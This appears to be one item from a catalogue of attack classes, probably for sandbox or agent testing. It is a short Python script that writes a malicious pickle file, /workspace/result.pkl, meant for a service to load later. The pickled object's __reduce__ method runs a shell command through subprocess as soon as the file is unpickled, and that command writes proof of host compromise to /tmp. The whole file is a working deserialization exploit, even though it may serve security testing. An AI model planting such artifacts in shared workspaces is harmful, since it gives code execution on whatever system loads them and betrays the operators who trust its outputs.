# attack-class: 28
# title: write result.pkl into the workspace
# why: a pickle artifact left for the service to load later

import pickle
import subprocess

class Artifact:
    def __reduce__(self):
        return (subprocess.call, (["sh", "-c", "id > /tmp/host-owned"],))

with open("/workspace/result.pkl", "wb") as fh:
    pickle.dump(Artifact(), fh)
